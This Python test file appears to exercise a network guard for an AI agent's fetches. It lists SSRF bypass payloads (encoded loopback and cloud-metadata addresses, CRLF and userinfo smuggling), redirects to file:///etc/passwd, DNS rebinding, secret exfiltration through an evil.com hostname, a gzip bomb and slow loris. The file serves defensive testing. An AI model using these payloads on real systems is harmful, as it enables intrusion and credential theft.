"""Attacks on what the agent fetches: real servers on this machine, a name server that lies, and no exception for them.

What a sandbox has to stop (raw sockets, UDP, sockets of the machine) is not tried here: the guard is for everything
that goes through it.
"""

from __future__ import annotations

import asyncio
import gzip
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from hermes_network.client import Client
from hermes_network.errors import AddressRefused, FetchFailed
from hermes_network.guard import Guard
from hermes_network.journal import Journal
from hermes_network.settings import Settings

from tests.attacks.cases import Attacks

ATTACKS = Attacks("network")

EMPTY = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"

LOOKS: dict[int, tuple[str, ...]] = {
    13: (
        "127.0.0.1",
        "127.8.8.8",
        "[::1]",
        "[::]",
        "0.0.0.0",
        "0",
        "[::ffff:127.0.0.1]",
        "[::ffff:169.254.169.254]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "017700000001",
        "127.1",
        "127.0.1",
        "127.0.0.1.",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "168.63.129.16",
        "100.100.100.200",
        "metadata.google.internal",
        "METADATA.google.internal",
        "metadata",
        "100.64.0.1",
        "[fd00::8]",
        "[fe80::1]",
        "[fe80::1%25lo]",
        "198.18.0.1",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "224.0.0.1",
        "255.255.255.255",
        "localhost",
        "LOCALHOST",
        "x.localhost",
    ),
    14: (
        "127.0.0.1\x00.example.com",
        "example.com\x00@127.0.0.1",
        "example.com@127.0.0.1",
        "example.com:80@127.0.0.1",
        "example.com\\@127.0.0.1",
        "example.com%00.127.0.0.1",
        "%31%32%37.0.0.1",
        "127.0.0.1%2f.example.com",
        "127。0。0。1",
        "①②⑦.⓪.⓪.①",
        "ｌｏｃａｌｈｏｓｔ",
        "localhost.",
        "example.com.",
        "127.0.0.1\t",
        "127.0.0.1\r\nHost: example.com",
        "[::1]:{port}@example.com",
    ),
}
"""Hosts that are forms of a private address, or hide one. `{port}` is the port of a server that must not be asked."""


class Server:
    """A server on this machine and how often it was asked."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.asked: list[bytes] = []


@asynccontextmanager
async def serving(*answer: bytes) -> AsyncIterator[Server]:
    """A server that gives the same answer to everyone; `{port}` in it is its own port."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            server.asked.append(await reader.readuntil(b"\r\n\r\n"))
            for part in answer:
                writer.write(part.replace(b"{port}", b"%d" % server.port))
                await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    listening = await asyncio.start_server(handle, "127.0.0.1", 0)
    server = Server(listening.sockets[0].getsockname()[1])
    try:
        yield server
    finally:
        listening.close()
        await listening.wait_closed()


@asynccontextmanager
async def fetching(lookup: Any = None, **settings: Any) -> AsyncIterator[tuple[Client, Journal]]:
    """A client with these settings of `network`, and its log."""
    with tempfile.TemporaryDirectory() as home:
        journal = Journal(Path(home) / "network.jsonl")
        client = Client(Guard(Settings(timeout=5.0, **settings)), purpose="attack", journal=journal, lookup=lookup)
        try:
            yield client, journal
        finally:
            await client.aclose()


async def refused(client: Client, url: str, **options: Any) -> bool:
    try:
        await client.fetch(url, **options)
    except AddressRefused:
        return True
    return False


async def failed(client: Client, url: str, **options: Any) -> bool:
    try:
        await client.fetch(url, **options)
    except FetchFailed:
        return True
    return False


def saying(*addresses: str) -> Callable[[str, int], Awaitable[Sequence[str]]]:
    """A name server with an answer for each look-up; the last one holds."""
    left = list(addresses)

    async def lookup(host: str, port: int) -> Sequence[str]:
        return (left.pop(0) if len(left) > 1 else left[0]).split()

    return lookup


for number, hosts in LOOKS.items():
    for form in hosts:

        @ATTACKS.attack(number, f"a request to {form.encode('unicode_escape').decode()}")
        async def by_its_looks(form: str = form) -> bool:
            async with (
                serving(EMPTY) as server,
                fetching() as (client, journal),
            ):
                host = form.replace("{port}", str(server.port))
                blocked = [await refused(client, f"http://{host}:{server.port}/") for _ in range(2)]
                return all(blocked) and not server.asked and len(journal.read(10)) == 2


for place in ("http://127.0.0.1:{port}/", "http://169.254.169.254/", "http://2130706433:{port}/", "file:///etc/passwd"):

    @ATTACKS.attack(14, f"a chain of redirects to {place}")
    async def redirected(place: str = place) -> bool:
        async with serving(EMPTY) as home:
            where = place.replace("{port}", str(home.port)).encode()
            last = b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: " + where + b"\r\n\r\n"
            async with serving(last) as second:
                first = (
                    b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: http://127.0.0.1:%d/\r\n\r\n" % second.port
                )
                async with serving(first) as begin:
                    allowed = [f"127.0.0.1:{begin.port}", f"127.0.0.1:{second.port}"]
                    async with fetching(allow_private=allowed) as (client, _):
                        blocked = await refused(client, f"http://127.0.0.1:{begin.port}/")
                        return blocked and len(second.asked) == 1 and not home.asked


for answers in (
    "127.0.0.1",
    "1.1.1.1 127.0.0.1",
    "127.0.0.1 1.1.1.1",
    "::ffff:127.0.0.1",
    "1.1.1.1 169.254.169.254",
    "0.0.0.0",
):

    @ATTACKS.attack(14, f"a public name that leads to {answers}")
    async def led_home(answers: str = answers) -> bool:
        async with serving(EMPTY) as server, fetching(lookup=saying(answers)) as (client, _):
            return await refused(client, f"http://public.example.com:{server.port}/") and not server.asked


@ATTACKS.attack(14, "a name that is allowed at the first look and private at the second")
async def rebinding() -> bool:
    answer = b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nConnection: close\r\nLocation: /secret\r\n\r\n"
    async with serving(answer) as server:
        named = [f"home.example.com:{server.port}"]
        async with fetching(lookup=saying("127.0.0.1", "169.254.169.254"), allow_private=named) as (client, _):
            blocked = await refused(client, f"http://home.example.com:{server.port}/")
            return blocked and len(server.asked) == 1


for look_alike in ("allowed.com.evil.test", "evil.testallowed.com", "www.allowed.com", "аllowed.com", "allowed.com."):

    @ATTACKS.attack(14, f"a site that looks like an allowed one: {look_alike.encode('unicode_escape').decode()}")
    async def looks_allowed(look_alike: str = look_alike) -> bool:
        async with fetching(lookup=saying("1.1.1.1"), allow=["allowed.com"]) as (client, _):
            return await refused(client, f"https://{look_alike}/")


for scheme in ("http", "https", "ws", "ftp", "gopher", "file", "unix", "dns"):

    @ATTACKS.attack(15, f"{scheme} with an empty list of allowed sites")
    async def empty_list(scheme: str = scheme) -> bool:
        looked_up: list[str] = []

        async def lookup(host: str, port: int) -> Sequence[str]:
            looked_up.append(host)
            return ["1.1.1.1"]

        async with fetching(lookup=lookup, allow=[]) as (client, _):
            return await refused(client, f"{scheme}://example.com/") and not looked_up


for header in ("Host", "host", "Proxy-Authorization", "Transfer-Encoding", "X-A\r\nHost"):

    @ATTACKS.attack(16, f"an allowed host with a {header.encode('unicode_escape').decode()} header for another")
    async def other_host(header: str = header) -> bool:
        async with serving(EMPTY) as server, fetching(allow_private=[f"127.0.0.1:{server.port}"]) as (client, _):
            url = f"http://127.0.0.1:{server.port}/"
            return await refused(client, url, headers={header: "internal"}) and not server.asked


for secret in ("Authorization", "Cookie", "X-Api-Key", "PRIVATE-TOKEN"):

    @ATTACKS.attack(16, f"a redirect to another origin, to get {secret}")
    async def get_secret(secret: str = secret) -> bool:
        async with serving(EMPTY) as thief:
            answer = b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: http://127.0.0.1:%d/\r\n\r\n" % thief.port
            async with serving(answer) as server:
                allowed = [f"127.0.0.1:{server.port}", f"127.0.0.1:{thief.port}"]
                async with fetching(allow_private=allowed) as (client, _):
                    await client.fetch(f"http://127.0.0.1:{server.port}/", headers={secret: "canary"})
                    return b"canary" in server.asked[0] and b"canary" not in thief.asked[0]


@ATTACKS.attack(17, "words of a secret in the name of a host that is blocked")
async def name_that_tells() -> bool:
    looked_up: list[str] = []

    async def lookup(host: str, port: int) -> Sequence[str]:
        looked_up.append(host)
        return ["1.1.1.1"]

    async with fetching(lookup=lookup, block=["evil.com"]) as (client, journal):
        blocked = await refused(client, "https://the-key-is-canary.evil.com/")
        return blocked and not looked_up and journal.read(1)[0].rule == "blocked"


@ATTACKS.attack(17, "sending data to a service that is allowed, unnoticed")
async def unnoticed() -> bool:
    async with serving(EMPTY) as server, fetching(allow_private=[f"127.0.0.1:{server.port}"]) as (client, journal):
        await client.fetch(f"http://127.0.0.1:{server.port}/?q=canary", method="POST", body=b"x" * 100)
        (entry,) = journal.read(5)
        return entry.sent == 100 and entry.port == server.port and b"canary" not in journal.path.read_bytes()


_BOMB = gzip.compress(b"\0" * 20_000_000)
HOSTILE: dict[str, Sequence[bytes]] = {
    "10,000 headers": [b"HTTP/1.1 200 OK\r\n", *[b"X-A: y\r\n"] * 10_000, b"\r\n"],
    "a header of 4 MB": [b"HTTP/1.1 200 OK\r\nX: ", *[b"y" * 65536] * 64],
    "a body of 1 TB": [b"HTTP/1.1 200 OK\r\nContent-Length: 1000000000000\r\n\r\n"],
    "a body without an end": [b"HTTP/1.1 200 OK\r\n\r\n", *[b"x" * 65536] * 256],
    "a bomb in gzip": [
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(_BOMB),
        _BOMB,
    ],
    "a packing that was not asked for": [
        b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 3\r\n\r\nxyz",
    ],
    "two lengths": [b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nxyz!"],
    "a body that is broken off": [b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nxyz"],
    "redirects without an end": [b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: /\r\n\r\n"],
}

for name, parts in HOSTILE.items():

    @ATTACKS.attack(43, f"a server that answers with {name}")
    async def hostile(parts: Sequence[bytes] = parts) -> bool:
        async with serving(*parts) as server, fetching(allow_private=[f"127.0.0.1:{server.port}"]) as (client, _):
            return await failed(client, f"http://127.0.0.1:{server.port}/", limit_bytes=1_000_000)


@ATTACKS.attack(43, "a server whose headers drip")
async def slow_loris() -> bool:
    async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            writer.write(b"HTTP/1.1 200 OK\r\n")
            while True:
                writer.write(b"X: y\r\n")
                await writer.drain()
                await asyncio.sleep(0.05)
        except ConnectionError:
            pass
        finally:
            writer.close()

    listening = await asyncio.start_server(drip, "127.0.0.1", 0)
    port = listening.sockets[0].getsockname()[1]
    try:
        async with fetching(allow_private=[f"127.0.0.1:{port}"]) as (client, _):
            return await failed(client, f"http://127.0.0.1:{port}/", timeout=0.5)
    finally:
        listening.close()
        await listening.wait_closed()
